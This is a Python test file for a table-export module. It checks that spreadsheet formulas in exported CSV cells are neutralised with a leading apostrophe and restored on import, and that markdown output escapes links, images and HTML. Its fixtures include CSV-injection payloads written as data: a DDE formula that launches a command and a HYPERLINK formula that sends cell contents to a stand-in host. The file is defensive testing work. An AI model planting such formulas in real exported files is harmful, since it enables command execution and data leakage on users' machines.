"""Exported tables hold nothing that a spreadsheet would carry out, and every text and number has its way back."""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from analysis.export.files import csv_file, markdown_text
from mrd_core.samples.reading import table_from_upload
from mrd_core.samples.spreadsheet import csv_text, harmless, restored

FORMULAS = [
    "=1+1",
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
    "＝1+1",
    '=HYPERLINK("http://x.example?"&A1)',
    "'=1+1",
    "''@x",
]
PLAIN = ["An answer.", "", "'quoted' speech", "a = b", "-5", "+1e3", "-", "5 - 3"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text_and_the_formula_again(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert restored(harmless(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_text_comes_back_too(text: str) -> None:
    assert restored(harmless(text)) == text


@pytest.mark.parametrize("text", ["An answer.", "'quoted' speech", "-5", "+1e3", "-0.25"])
def test_numbers_and_plain_texts_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_no_cell_and_no_name_of_a_table_is_a_formula_and_numbers_are_exact() -> None:
    values = np.random.default_rng(0).normal(size=len(FORMULAS))
    frame = pd.DataFrame({"text": FORMULAS, "kind": pd.Categorical(FORMULAS), "=name": "x", "mrd": values})
    for written in (csv_text(frame), csv_file(frame).decode()):
        header, *rows = csv.reader(io.StringIO(written, newline=""))
        assert header == ["text", "kind", "'=name", "mrd"]
        assert [row[0] for row in rows] == [row[1] for row in rows] == [f"'{text}" for text in FORMULAS]
        assert [float(row[3]) for row in rows] == list(values)


def test_an_exported_table_is_read_as_it_was() -> None:
    frame = pd.DataFrame({"prompt": [f"What is {text!r}?" for text in FORMULAS], "answer": FORMULAS})
    table = table_from_upload("samples.csv", csv_file(frame), 10_000)
    assert table.frame["answer"].tolist() == FORMULAS
    assert f"{len(FORMULAS)} cells had an apostrophe in front" in " ".join(table.notes)


def test_what_is_undefined_is_an_empty_cell() -> None:
    assert csv_text(pd.DataFrame({"text": ["a", None], "value": [1.0, np.nan]})) == "text,value\r\na,1.0\r\n,\r\n"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("![x](http://example.org/p.png)", r"![x]\(http://example.org/p.png)"),
        ("[here](http://example.org)", r"[here]\(http://example.org)"),
        ("`code` $x$ ~~gone~~", r"\`code\` \$x\$ \~\~gone\~\~"),
        ("a | b\n<img src=x>", r"a \| b &lt;img src=x&gt;"),
        ("+0.41 [+0.20, +0.58] (n = 40)", "+0.41 [+0.20, +0.58] (n = 40)"),
    ],
)
def test_a_text_in_markdown_brings_no_image_no_link_and_no_mark(text: str, written: str) -> None:
    assert markdown_text(text) == written
